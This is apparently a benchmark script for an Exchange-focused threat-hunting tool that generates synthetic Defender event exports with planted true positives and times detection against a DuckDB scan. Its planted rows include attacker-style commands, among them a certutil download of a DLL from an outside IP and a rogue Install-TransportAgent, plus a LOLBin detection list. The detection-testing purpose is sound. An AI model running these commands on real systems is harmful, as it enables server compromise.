"""Benchmark `exhunt detect` on generated Defender Advanced Hunting exports.

Generates N rows of mixed MDE tables (portal-style CSV, and Parquet) spread over
30 days, with a handful of planted true positives for the seed rule, then times
`exhunt detect FOLDER` with every shipped rule and the default replay, as a user
runs it, and, as the yardstick, DuckDB scanning the same files for the seed
rule's columns with a plain SQL filter. Every measured command runs as a child
process; its peak memory is sampled from /proc over the whole process tree
(reader workers are separate processes), beside the child's own peak RSS.

    python bench/bench_detect.py --rows 1000000          # CSV and Parquet
    python bench/bench_detect.py --rows 10000000 --formats csv
    python bench/bench_detect.py --rules exchange-transport-agent-seed   # one rule, as rounds 2-4 measured

Targets (issue 8): detect at most 1.5x the scan (the ratio is printed), peak memory of
all processes bounded by the `--memory` setting and not growing with the input.
The data is generated with DuckDB itself (deterministic hashes, no Python loop),
so making 10M rows takes well under a minute.
"""

from __future__ import annotations

import argparse
import json
import os
import platform
import subprocess
import sys
import time
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import duckdb

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
from proctree import tree_memory  # noqa: E402

OUT = HERE / "out"
RULE = "exchange-transport-agent-seed"
START = datetime(2026, 11, 14)
DAYS = 30
SEED = 1505002

#: Share of all rows per table (roughly what a server fleet's Defender export holds).
MIX = {
    "DeviceProcessEvents": 0.40,
    "DeviceFileEvents": 0.30,
    "DeviceNetworkEvents": 0.15,
    "DeviceImageLoadEvents": 0.10,
    "DeviceRegistryEvents": 0.05,
}

EXCH = r"C:\Program Files\Microsoft\Exchange Server\V15"
SYS = r"C:\Windows\System32"
USERS = ["svc-backup", "j.doe", "a.smith", "m.garcia", "exadmin", "k.lee", "r.patel", "system", "network service"]

# Noise profiles: (ActionType, FileName, FolderPath, initiating file, initiating command line, on_exchange).
# None of them matches the seed rule; several are deliberate near misses ({n} becomes a number).
FILE_PROFILES = [
    ("FileCreated", "chrome_{n}.tmp", r"C:\Users\{u}\AppData\Local\Temp\chrome_{n}.tmp", "chrome.exe",
     '"chrome.exe" --type=utility', False),
    ("FileModified", "NTUSER.DAT", r"C:\Users\{u}\NTUSER.DAT", "svchost.exe", "svchost.exe -k netsvcs -p", False),
    ("FileCreated", "report_{n}.docx", r"C:\Users\{u}\Documents\report_{n}.docx", "WINWORD.EXE",
     '"WINWORD.EXE" /n', False),
    ("FileCreated", "mpasbase_{n}.vdm",
     r"C:\ProgramData\Microsoft\Windows Defender\Definition Updates\mpasbase_{n}.vdm", "MsMpEng.exe",
     '"MsMpEng.exe"', False),
    ("FileCreated", "msvcp_{n}.dll", SYS + r"\msvcp_{n}.dll", "TiWorker.exe", "TiWorker.exe -Embedding", False),
    ("FileDeleted", "log_{n}.etl", r"C:\Windows\Logs\log_{n}.etl", "svchost.exe", "svchost.exe -k LocalService", False),
    ("FileRenamed", "update_{n}.cab", r"C:\Windows\SoftwareDistribution\Download\update_{n}.cab", "svchost.exe",
     "svchost.exe -k wusvcs", False),
    # Exchange servers: their own file churn, all outside the rule.
    ("FileCreated", "MSGTRK2026111{n}-1.LOG", EXCH + r"\TransportRoles\Logs\MessageTracking\MSGTRK2026111{n}-1.LOG",
     "EdgeTransport.exe", '"EdgeTransport.exe"', True),
    ("FileModified", "mail.que", EXCH + r"\TransportRoles\data\Queue\mail.que", "EdgeTransport.exe",
     '"EdgeTransport.exe"', True),
    ("FileModified", "Microsoft.Exchange.Transport.Agent.{n}.dll",
     EXCH + r"\Bin\Microsoft.Exchange.Transport.Agent.{n}.dll", "ExSetup.exe", '"ExSetup.exe" /mode:Upgrade', True),
    ("FileCreated", "Microsoft.Exchange.Data.{n}.dll", EXCH + r"\Bin\Microsoft.Exchange.Data.{n}.dll", "msiexec.exe",
     "msiexec.exe /V", True),
    ("FileDeleted", "old_{n}.dll", EXCH + r"\TransportRoles\agents\Hygiene\old_{n}.dll", "powershell.exe",
     "powershell.exe -File cleanup.ps1", True),
    ("FileCreated", "agent_{n}.dll.bak", EXCH + r"\TransportRoles\agents\agent_{n}.dll.bak", "robocopy.exe",
     "robocopy.exe /MIR", True),
    ("FileCreated", "tool_{n}.dll", r"D:\Backup\v15\Binaries\tool_{n}.dll", "robocopy.exe", "robocopy.exe /MIR", True),
]

# (FileName, FolderPath, command line, initiating file, initiating command line, parent, on_exchange)
PROC_PROFILES = [
    ("svchost.exe", SYS, "svchost.exe -k netsvcs -p -s Schedule", "services.exe", "services.exe", "wininit.exe", False),
    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application",
     '"chrome.exe" --type=renderer --renderer-client-id={n}', "chrome.exe", '"chrome.exe"', "explorer.exe", False),
    ("conhost.exe", SYS, r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", "cmd.exe", "cmd.exe /c ver",
     "explorer.exe", False),
    ("cmd.exe", SYS, 'cmd.exe /c "C:\\Scripts\\backup_{n}.bat"', "svchost.exe", "svchost.exe -k netsvcs",
     "services.exe", False),
    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0",
     r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory_{n}.ps1", "svchost.exe",
     "svchost.exe -k netsvcs", "services.exe", False),
    ("git.exe", r"C:\Program Files\Git\cmd", "git.exe fetch origin {n}", "Code.exe", '"Code.exe"', "explorer.exe",
     False),
    ("MsMpEng.exe", r"C:\ProgramData\Microsoft\Windows Defender\Platform", '"MsMpEng.exe"', "services.exe",
     "services.exe", "wininit.exe", False),
    # Exchange servers: transport children that are not in the rule's list, admin read-only cmdlets.
    ("conhost.exe", SYS, r"\??\C:\Windows\system32\conhost.exe 0xffffffff", "EdgeTransport.exe",
     '"EdgeTransport.exe"', "MSExchangeTransport.exe", True),
    ("WerFault.exe", SYS, "WerFault.exe -u -p {n} -s 1234", "MSExchangeTransport.exe", '"MSExchangeTransport.exe"',
     "services.exe", True),
    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0",
     "powershell.exe -NonInteractive -Command Get-TransportAgent | Format-List", "explorer.exe", "explorer.exe",
     "userinit.exe", True),
    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0",
     "powershell.exe -Command Install-TransportAgentX -Name test{n}", "explorer.exe", "explorer.exe",
     "userinit.exe", True),
    ("cmd.exe", SYS, "cmd.exe /c Install-TransportAgent.txt", "w3wp.exe", "w3wp.exe -ap MSExchangeOWAAppPool",
     "svchost.exe", True),
]

NET_PROFILES = [
    ("ConnectionSuccess", "443", "www.bing.com", "chrome.exe"),
    ("ConnectionSuccess", "25", "mx{n}.contoso.com", "EdgeTransport.exe"),
    ("ConnectionFailed", "445", "", "System"),
    ("InboundConnectionAccepted", "3389", "", "svchost.exe"),
    ("ConnectionSuccess", "443", "login.microsoftonline.com", "OneDrive.exe"),
]
IMAGE_PROFILES = [
    ("ntdll.dll", SYS, "svchost.exe"),
    ("clr.dll", r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319", "EdgeTransport.exe"),
    ("Microsoft.Exchange.Transport.Agent.Hygiene.dll", EXCH + r"\TransportRoles\agents\Hygiene", "EdgeTransport.exe"),
    ("chrome_elf.dll", r"C:\Program Files\Google\Chrome\Application", "chrome.exe"),
]
REG_PROFILES = [
    ("RegistryValueSet", r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\bam\State\UserSettings",
     "SequenceNumber", "{n}", "svchost.exe"),
    ("RegistryKeyCreated", r"HKEY_CURRENT_USER\Software\Microsoft\Office\16.0\Word\Resiliency", "", "", "WINWORD.EXE"),
    ("RegistryValueSet", r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Signature Updates",
     "SignaturesLastUpdated", "{n}", "MsMpEng.exe"),
]


@dataclass(frozen=True)
class Planted:
    """One true positive the seed rule must report (and exactly these)."""

    table: str
    position: float  # where in the span, 0..1
    device: int  # index into the Exchange servers (0..3)
    detection: str
    values: dict[str, str]


PLANTED = [
    Planted("DeviceFileEvents", 0.12, 0, "Exchange_Transport_DLL_Write", {
        "ActionType": "FileCreated", "FileName": "msexchauth.dll",
        "FolderPath": EXCH + r"\TransportRoles\agents\Hygiene\msexchauth.dll",
        "InitiatingProcessFileName": "powershell.exe", "InitiatingProcessCommandLine": "powershell.exe -File i.ps1",
        "InitiatingProcessAccountName": "exadmin"}),
    Planted("DeviceFileEvents", 0.41, 1, "Exchange_Transport_DLL_Write", {
        "ActionType": "FileModified", "FileName": "exdbdata.dll", "FolderPath": EXCH + r"\Bin\exdbdata.dll",
        "InitiatingProcessFileName": "rundll32.exe", "InitiatingProcessCommandLine": "rundll32.exe x.dll,Start",
        "InitiatingProcessAccountName": "system"}),
    Planted("DeviceFileEvents", 0.77, 2, "Exchange_Transport_DLL_Write", {
        "ActionType": "FileCreated", "FileName": "Interop.dll",
        "FolderPath": EXCH + r"\FrontEnd\TransportAgent\Interop.dll",
        "InitiatingProcessFileName": "cmd.exe", "InitiatingProcessCommandLine": "cmd.exe /c copy \\\\dc01\\s\\x.dll",
        "InitiatingProcessAccountName": "j.doe"}),
    Planted("DeviceProcessEvents", 0.30, 0, "Exchange_Transport_OS_Command", {
        "FileName": "cmd.exe", "ProcessCommandLine": "cmd.exe /c whoami /all",
        "InitiatingProcessFileName": "EdgeTransport.exe", "InitiatingProcessCommandLine": '"EdgeTransport.exe"',
        "AccountName": "network service"}),
    Planted("DeviceProcessEvents", 0.55, 1, "Exchange_Transport_OS_Command", {
        "FileName": "certutil.exe", "ProcessCommandLine": "certutil.exe -urlcache -f http://203.0.113.7/a a.dll",
        "InitiatingProcessFileName": "MSExchangeTransport.exe",
        "InitiatingProcessCommandLine": '"MSExchangeTransport.exe"', "AccountName": "network service"}),
    Planted("DeviceProcessEvents", 0.11, 0, "Exchange_Transport_Agent_Install", {
        "FileName": "powershell.exe",
        "ProcessCommandLine": 'powershell.exe -Command Install-TransportAgent -Name "Connectivity Agent" '
                              r'-TransportAgentFactory Microsoft.Exchange.Transport.Agent.Connectivity.Factory '
                              r'-AssemblyPath C:\ProgramData\msexchauth.dll',
        "InitiatingProcessFileName": "explorer.exe", "InitiatingProcessCommandLine": "explorer.exe",
        "AccountName": "exadmin"}),
    Planted("DeviceProcessEvents", 0.93, 3, "Exchange_Transport_Agent_Install", {
        "FileName": "pwsh.exe", "ProcessCommandLine": 'pwsh.exe -c Enable-TransportAgent "Connectivity Agent"',
        "InitiatingProcessFileName": "explorer.exe", "InitiatingProcessCommandLine": "explorer.exe",
        "AccountName": "exadmin"}),
]


def _lit(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def _values(rows: list[tuple[object, ...]], names: list[str]) -> str:
    body = ", ".join("(" + ", ".join(_lit(str(v)) if not isinstance(v, bool) else str(v) for v in r) + ")"
                     for r in rows)
    return f"(SELECT * FROM (VALUES {body}) v({', '.join(names)}))"


def _fill(expr: str, h: str) -> str:
    """Replace {n} and {u} placeholders in a profile column with per-row values."""
    users = "[" + ", ".join(_lit(u) for u in USERS) + "]"
    return (f"replace(replace({expr}, '{{n}}', CAST({h} % 100000 AS VARCHAR)), "
            f"'{{u}}', {users}[1 + CAST({h} % {len(USERS)} AS INTEGER)])")


def _n_rows(total: int) -> dict[str, int]:
    counts = {t: int(total * share) for t, share in MIX.items()}
    counts["DeviceProcessEvents"] += total - sum(counts.values())
    return counts


def _planted_time(p: Planted) -> datetime:
    return START + timedelta(seconds=int(DAYS * 86400 * p.position), microseconds=123456)


def _select(table: str, n: int, days: int = DAYS) -> str:
    """A SELECT producing `n` time-ordered rows of `table` with typed columns, over `days` days."""
    span_us = days * 86400 * 1_000_000
    ts = (f"(TIMESTAMP '{START.isoformat()}' + to_microseconds(CAST(i * {span_us} // {n} "
          f"+ hash(i, {SEED}) % 999983 AS BIGINT)))")
    h = f"hash(i, {SEED} + 1)"
    pick = f"hash(i, {SEED} + 2)"
    dev = f"hash(i, {SEED} + 3)"
    device_expr = (f"CASE WHEN p.exch THEN CAST({dev} % 4 AS INTEGER) "
                   f"ELSE 4 + CAST({dev} % 196 AS INTEGER) END")
    common = (f"{ts} AS Timestamp, d.DeviceId, d.DeviceName")
    if table == "DeviceFileEvents":
        profiles = _values([(i, *p) for i, p in enumerate(FILE_PROFILES)],
                           ["k", "act", "fname", "folder", "ipf", "ipcl", "exch"])
        cols = (f"{common}, p.act AS ActionType, {_fill('p.fname', h)} AS FileName, "
                f"{_fill('p.folder', h)} AS FolderPath, "
                f"lower(hex(sha256(CAST({h} AS VARCHAR)))) AS SHA256, CAST({h} % 5000000 AS BIGINT) AS FileSize, "
                f"CASE WHEN p.exch THEN 'nt authority' ELSE 'contoso' END AS InitiatingProcessAccountDomain, "
                f"{_fill(chr(39) + '{u}' + chr(39), h)} AS InitiatingProcessAccountName, "
                f"p.ipf AS InitiatingProcessFileName, "
                f"'C:\\Windows\\System32\\' || p.ipf AS InitiatingProcessFolderPath, "
                f"p.ipcl AS InitiatingProcessCommandLine, CAST({h} % 60000 AS BIGINT) AS InitiatingProcessId, "
                f"'Local' AS RequestProtocol")
        nprof = len(FILE_PROFILES)
    elif table == "DeviceProcessEvents":
        profiles = _values([(i, *p) for i, p in enumerate(PROC_PROFILES)],
                           ["k", "fname", "folder", "cl", "ipf", "ipcl", "parent", "exch"])
        cols = (f"{common}, 'ProcessCreated' AS ActionType, p.fname AS FileName, "
                f"p.folder || '\\' || p.fname AS FolderPath, lower(hex(sha256(p.fname))) AS SHA256, "
                f"CAST({h} % 60000 AS BIGINT) AS ProcessId, {_fill('p.cl', h)} AS ProcessCommandLine, "
                f"{ts} AS ProcessCreationTime, 'contoso' AS AccountDomain, "
                f"{_fill(chr(39) + '{u}' + chr(39), h)} AS AccountName, "
                f"'S-1-5-21-1004336348-1177238915-682003330-' || CAST(1000 + {h} % 50 AS VARCHAR) AS AccountSid, "
                f"{_fill(chr(39) + '{u}' + chr(39), h)} AS InitiatingProcessAccountName, "
                f"p.ipf AS InitiatingProcessFileName, "
                f"'C:\\Windows\\System32\\' || p.ipf AS InitiatingProcessFolderPath, "
                f"p.ipcl AS InitiatingProcessCommandLine, CAST(({h} >> 8) % 60000 AS BIGINT) AS InitiatingProcessId, "
                f"p.parent AS InitiatingProcessParentFileName")
        nprof = len(PROC_PROFILES)
    elif table == "DeviceNetworkEvents":
        profiles = _values([(i, *p, i == 1) for i, p in enumerate(NET_PROFILES)],
                           ["k", "act", "port", "url", "ipf", "exch"])
        cols = (f"{common}, p.act AS ActionType, "
                f"'10.' || CAST({h} % 250 AS VARCHAR) || '.' || CAST(({h} >> 8) % 250 AS VARCHAR) || '.7' AS RemoteIP, "
                f"CAST(p.port AS INTEGER) AS RemotePort, {_fill('p.url', h)} AS RemoteUrl, "
                f"'10.0.0.' || CAST(({h} >> 16) % 250 AS VARCHAR) AS LocalIP, "
                f"CAST(49152 + {h} % 16000 AS INTEGER) AS LocalPort, 'Tcp' AS Protocol, "
                f"p.ipf AS InitiatingProcessFileName, p.ipf AS InitiatingProcessCommandLine, "
                f"{_fill(chr(39) + '{u}' + chr(39), h)} AS InitiatingProcessAccountName")
        nprof = len(NET_PROFILES)
    elif table == "DeviceImageLoadEvents":
        profiles = _values([(i, *p, i in (1, 2)) for i, p in enumerate(IMAGE_PROFILES)],
                           ["k", "fname", "folder", "ipf", "exch"])
        cols = (f"{common}, 'ImageLoaded' AS ActionType, p.fname AS FileName, "
                f"p.folder || '\\' || p.fname AS FolderPath, lower(hex(sha256(p.fname))) AS SHA256, "
                f"p.ipf AS InitiatingProcessFileName, 'C:\\Windows\\System32' AS InitiatingProcessFolderPath, "
                f"CAST({h} % 60000 AS BIGINT) AS InitiatingProcessId")
        nprof = len(IMAGE_PROFILES)
    elif table == "DeviceRegistryEvents":
        profiles = _values([(i, *p, False) for i, p in enumerate(REG_PROFILES)],
                           ["k", "act", "key", "vname", "vdata", "ipf", "exch"])
        cols = (f"{common}, p.act AS ActionType, p.key AS RegistryKey, p.vname AS RegistryValueName, "
                f"{_fill('p.vdata', h)} AS RegistryValueData, p.ipf AS InitiatingProcessFileName")
        nprof = len(REG_PROFILES)
    else:
        raise ValueError(table)
    devices = ("(SELECT CAST(k AS INTEGER) AS dn, "
               "CASE WHEN k < 4 THEN 'exch0' || CAST(k + 1 AS VARCHAR) || '.contoso.local' "
               "ELSE 'ws' || lpad(CAST(k AS VARCHAR), 4, '0') || '.contoso.local' END AS DeviceName, "
               "lower(hex(sha1(CAST(k AS VARCHAR)))) AS DeviceId FROM range(200) r(k))")
    base = (f"SELECT {cols}, CAST(i + 1 AS BIGINT) AS ReportId, i FROM range({n}) r(i) "
            f"JOIN {profiles} p ON p.k = CAST({pick} % {nprof} AS INTEGER) "
            f"JOIN {devices} d ON d.dn = {device_expr}")
    return base


def _planted_sql(table: str, n: int) -> tuple[str, list[str]] | None:
    """The planted rows of `table`, keyed by the row index (`pi`) they replace."""
    mine = [p for p in PLANTED if p.table == table]
    if not mine:
        return None
    rows = []
    for p in mine:
        i = min(n - 1, int(n * p.position))
        t = _planted_time(p)
        vals = {"Timestamp": f"TIMESTAMP '{t.isoformat()}'",
                "DeviceName": _lit(f"exch0{p.device + 1}.contoso.local")}
        vals.update({k: _lit(v) for k, v in p.values.items()})
        rows.append((i, vals))
    names = sorted({k for _, v in rows for k in v})
    sel = " UNION ALL ".join(
        f"SELECT {i} AS pi, " + ", ".join(f"{v.get(c, 'NULL')} AS {c}" for c in names) for i, v in rows)
    return sel, names


def generate(out: Path, rows: int) -> dict[str, int]:
    """Write out/csv/<Table>.csv and out/parquet/<Table>.parquet; skip when already made for `rows`."""
    stamp = out / "stamp.json"
    want = {"rows": rows, "seed": SEED, "version": 3, "days": DAYS}
    if stamp.exists() and json.loads(stamp.read_text()) == want:
        return _n_rows(rows)
    (out / "csv").mkdir(parents=True, exist_ok=True)
    (out / "parquet").mkdir(parents=True, exist_ok=True)
    con = duckdb.connect()
    con.execute("SET preserve_insertion_order = true")
    for table, n in _n_rows(rows).items():
        if n <= 0:
            continue
        base = _select(table, n)
        cols = [d[0] for d in con.execute(f"SELECT * FROM ({base}) LIMIT 0").description if d[0] != "i"]
        planted = _planted_sql(table, n)
        if planted:
            psel, pnames = planted
            exprs = [f"COALESCE(pl.{c}, b.{c}) AS {c}" if c in pnames else f"b.{c}" for c in cols]
            query = f"SELECT {', '.join(exprs)} FROM ({base}) b LEFT JOIN ({psel}) pl ON pl.pi = b.i ORDER BY b.i"
        else:
            query = f"SELECT {', '.join(cols)} FROM ({base}) ORDER BY i"
        con.execute(f"COPY ({query}) TO '{out / 'parquet' / (table + '.parquet')}' (FORMAT parquet)").fetchall()
        # Portal CSV: every value as text, timestamps with 7 fractional digits and Z, CRLF line ends.
        texts = [
            (f"strftime({c}, '%Y-%m-%dT%H:%M:%S.%f') || '0Z' AS {c}" if c in ("Timestamp", "ProcessCreationTime")
             else c) for c in cols
        ]
        src = out / "parquet" / (table + ".parquet")
        con.execute(f"COPY (SELECT {', '.join(texts)} FROM read_parquet('{src}')) TO "
                    f"'{out / 'csv' / (table + '.csv')}' (HEADER, NEW_LINE '\\r\\n')").fetchall()
    con.close()
    stamp.write_text(json.dumps(want))
    return _n_rows(rows)


def planted_records(rows: int) -> dict[tuple[str, str, str], tuple[str, str]]:
    """(DetectionType, DeviceName, Timestamp) -> (file name, record) of each planted row, per format:
    a CSV row is on line index + 2 (header first, no value spans lines), a Parquet row is `row index + 1`."""
    counts = _n_rows(rows)
    out = {}
    for p in PLANTED:
        i = min(counts[p.table] - 1, int(counts[p.table] * p.position))
        key = (p.detection, f"exch0{p.device + 1}.contoso.local", _planted_time(p).strftime("%Y-%m-%dT%H:%M:%S.%fZ"))
        out[key] = (p.table, f"{i + 2}|{i + 1}")
    return out


def expected() -> set[tuple[str, str, str]]:
    """(DetectionType, DeviceName, Timestamp) of every planted alert."""
    return {(p.detection, f"exch0{p.device + 1}.contoso.local", _planted_time(p).strftime("%Y-%m-%dT%H:%M:%S.%fZ"))
            for p in PLANTED}


# -- the yardstick: DuckDB scanning the same files ---------------------------

SCAN_FILE = """
SELECT Timestamp, DeviceName, FileName, FolderPath, InitiatingProcessFileName, InitiatingProcessAccountName,
       InitiatingProcessCommandLine
FROM {src}
WHERE ActionType IN ('FileCreated', 'FileModified')
  AND (FolderPath ILIKE '%\\Microsoft\\Exchange Server\\%' OR FolderPath ILIKE '%\\Exchange Server\\%'
       OR FolderPath ILIKE '%\\v15\\Bin\\%' OR FolderPath ILIKE '%\\TransportRoles\\%'
       OR FolderPath ILIKE '%\\FrontEnd\\TransportAgent\\%')
  AND lower(FileName) LIKE '%.dll'
  AND lower(InitiatingProcessFileName) NOT IN ('exsetup.exe', 'updateexchangesetup.exe', 'exchangesetup.exe',
                                               'msiexec.exe', 'setup.exe')
"""
SCAN_PROC = """
SELECT Timestamp, DeviceName, AccountName, FileName, ProcessCommandLine, InitiatingProcessFileName,
       InitiatingProcessCommandLine
FROM {src}
WHERE (lower(InitiatingProcessFileName) IN ('edgetransport.exe', 'msexchangetransport.exe')
       AND lower(FileName) IN ('cmd.exe', 'powershell.exe', 'wscript.exe', 'cscript.exe', 'certutil.exe',
                               'bitsadmin.exe', 'mshta.exe', 'rundll32.exe', 'net.exe'))
   OR (lower(FileName) IN ('powershell.exe', 'pwsh.exe')
       AND regexp_matches(ProcessCommandLine,
           '(?i)(^|[^a-z0-9])(install-transportagent|enable-transportagent|new-transportagentconnector|'
           'set-transportagent)([^a-z0-9]|$)'))
"""


def scan(fmt: str, folder: Path) -> int:
    """The plain scan: the rule's columns and filters over its two tables, a count over the rest."""
    con = duckdb.connect()
    hits = 0
    for path in sorted(folder.iterdir()):
        table = path.stem
        src = (f"read_parquet('{path}')" if fmt == "parquet"
               else f"read_csv('{path}', header=true, all_varchar=true)")
        if fmt == "csv":
            src = f"(SELECT * REPLACE (CAST(Timestamp AS TIMESTAMPTZ) AS Timestamp) FROM {src})"
        if table == "DeviceFileEvents":
            hits += len(con.execute(SCAN_FILE.format(src=src)).fetchall())
        elif table == "DeviceProcessEvents":
            hits += len(con.execute(SCAN_PROC.format(src=src)).fetchall())
        else:
            con.execute(f"SELECT count(*) FROM {src}").fetchall()
    con.close()
    return hits


# -- measuring child processes ------------------------------------------------

@dataclass
class Measure:
    wall: float
    rss_mb: float
    tree_mb: float
    rc: int


def measure(cmd: list[str], stdout: Path | None = None) -> Measure:
    """Run a child: wall time, its own peak RSS (wait4's rusage is per child) and the largest
    sum of RSS over it and its descendants, sampled every 50 ms (reader workers are children
    of a forkserver, which rusage does not see)."""
    out = stdout.open("wb") if stdout else subprocess.DEVNULL
    err = (stdout.with_suffix(".err") if stdout else Path(os.devnull)).open("wb")
    tree = 0
    try:
        t0 = time.perf_counter()
        proc = subprocess.Popen(cmd, stdout=out, stderr=err)
        while True:
            pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
            if pid:
                break
            if sys.platform == "linux":
                tree = max(tree, tree_memory(proc.pid)[0])
            time.sleep(0.05)
        wall = time.perf_counter() - t0
        proc.returncode = os.waitstatus_to_exitcode(status)
    finally:
        if stdout:
            out.close()  # type: ignore[union-attr]
        err.close()
    if proc.returncode not in (0, 1) and stdout:
        sys.stderr.write(stdout.with_suffix(".err").read_text(errors="replace"))
    rss = usage.ru_maxrss / 1024
    return Measure(wall, rss, max(tree / 1024, rss), proc.returncode)


def _exhunt() -> list[str]:
    exe = Path(sys.executable).with_name("exhunt")
    return [str(exe)] if exe.exists() else [sys.executable, "-m", "exhunt"]


def _check(alerts_file: Path, rows: int, fmt: str) -> tuple[set[tuple[str, str, str]], int, list[str]]:
    """The seed rule's alerts, the number of all alerts, and every provenance that is wrong."""
    want = planted_records(rows)
    got: set[tuple[str, str, str]] = set()
    wrong: list[str] = []
    n = 0
    for line in alerts_file.read_text().splitlines():
        a = json.loads(line)
        n += 1
        if not a.get("source_file") or not a.get("source_record"):
            wrong.append(f"{a['rule_name']}: no provenance")
        if "DetectionType" not in a:  # only the seed rule has this column
            continue
        key = (a.get("DetectionType"), a.get("DeviceName"), a.get("Timestamp"))
        got.add(key)
        if key in want:
            table, records = want[key]
            line_no, row_no = records.split("|")
            record = f"line {line_no}" if fmt == "csv" else f"row {row_no}"
            if Path(a["source_file"]).stem != table or a["source_record"] != record:
                wrong.append(f"{key}: {a['source_file']} {a['source_record']}, want {table} {record}")
    return got, n, wrong


def bench(rows: int, formats: list[str], repeat: int, out: Path, rules: list[str]) -> bool:
    t0 = time.perf_counter()
    # In a child: Linux carries a parent's peak RSS into its children's ru_maxrss, so the
    # parent must stay small for the children's figures to be their own.
    subprocess.run([sys.executable, __file__, "--generate-only", "--rows", str(rows), "--out", str(out)], check=True)
    counts = _n_rows(rows)
    total = sum(counts.values())
    print(f"data: {total:,} rows over {DAYS} days ({', '.join(f'{t} {n:,}' for t, n in counts.items())}); "
          f"generated or reused in {time.perf_counter() - t0:.1f} s")
    print(f"machine: {os.cpu_count()} cores, Python {platform.python_version()}, duckdb {duckdb.__version__}")
    ok = True
    want = expected()
    print(f"detect: exhunt detect FOLDER {' '.join('--rules ' + r for r in rules) or '(every shipped rule)'}")
    header = f"{'format':8} {'size MB':>8} {'scan s':>7} {'scan MB':>8} {'detect s':>9} {'rows/s':>10} " \
             f"{'peak MB':>8} {'tree MB':>8} {'ratio':>6} alerts"
    print(header)
    for fmt in formats:
        folder = out / fmt
        size = sum(p.stat().st_size for p in folder.iterdir()) / 1e6
        scans: list[Measure] = []
        runs: list[Measure] = []
        alerts_file = out / f"alerts-{fmt}.jsonl"
        for _ in range(repeat):
            scans.append(measure([sys.executable, __file__, "--scan", fmt, str(folder)]))
            chosen = [arg for r in rules for arg in ("--rules", r)]
            runs.append(measure([*_exhunt(), "detect", str(folder), *chosen, "-f", "jsonl", "--flat", "-q"],
                                stdout=alerts_file))
        s = sorted(scans, key=lambda m: m.wall)[len(scans) // 2]
        r = sorted(runs, key=lambda m: m.wall)[len(runs) // 2]
        got, n_alerts, wrong = _check(alerts_file, rows, fmt)
        found = "exact" if got == want else f"MISMATCH {len(got)} vs {len(want)} planted"
        found += ", provenance exact" if not wrong else f", {len(wrong)} provenance WRONG"
        ok &= got == want and not wrong and r.rc in (0, 1)
        print(f"{fmt:8} {size:8.0f} {s.wall:7.2f} {s.rss_mb:8.0f} {r.wall:9.2f} {total / r.wall:10,.0f} "
              f"{r.rss_mb:8.0f} {r.tree_mb:8.0f} {r.wall / s.wall:6.2f} seed {len(got)}/{len(want)} {found}; "
              f"{n_alerts} alert(s) in all")
        if got != want:
            print(f"  missing: {sorted(want - got)}\n  extra: {sorted(got - want)}")
        for w in wrong[:10]:
            print(f"  {w}")
    return ok


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--rows", type=int, default=1_000_000, help="rows to generate over all tables (default 1M)")
    ap.add_argument("--rules", action="append", default=[],
                    help="rule for detect (repeatable; default: every shipped rule, as `exhunt detect` runs)")
    ap.add_argument("--formats", default="csv,parquet", help="comma-separated: csv, parquet")
    ap.add_argument("--repeat", type=int, default=1, help="runs per measurement; the median is printed")
    ap.add_argument("--out", type=Path, default=OUT, help="where data and alerts go (default bench/out)")
    ap.add_argument("--generate-only", action="store_true", help="write the data and stop")
    ap.add_argument("--scan", nargs=2, metavar=("FORMAT", "DIR"), help=argparse.SUPPRESS)
    args = ap.parse_args(argv)
    if args.scan:
        hits = scan(args.scan[0], Path(args.scan[1]))
        print(hits)
        return 0
    if args.generate_only:
        generate(args.out, args.rows)
        return 0
    ok = bench(args.rows, [f.strip() for f in args.formats.split(",") if f.strip()], args.repeat, args.out,
               args.rules)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
